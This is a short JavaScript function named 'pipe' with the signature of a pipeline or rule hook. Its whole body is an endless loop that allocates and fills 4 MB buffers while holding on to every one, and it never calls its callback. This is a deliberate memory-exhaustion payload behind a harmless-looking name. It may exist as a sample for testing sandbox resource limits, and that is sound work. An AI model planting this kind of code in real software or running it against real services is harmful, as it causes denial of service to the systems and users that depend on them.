function pipe(user, context, callback) {
  const keep = [];
  for (;;) { keep.push(new ArrayBuffer(1 << 22)); new Uint8Array(keep[keep.length - 1]).fill(7); }
}
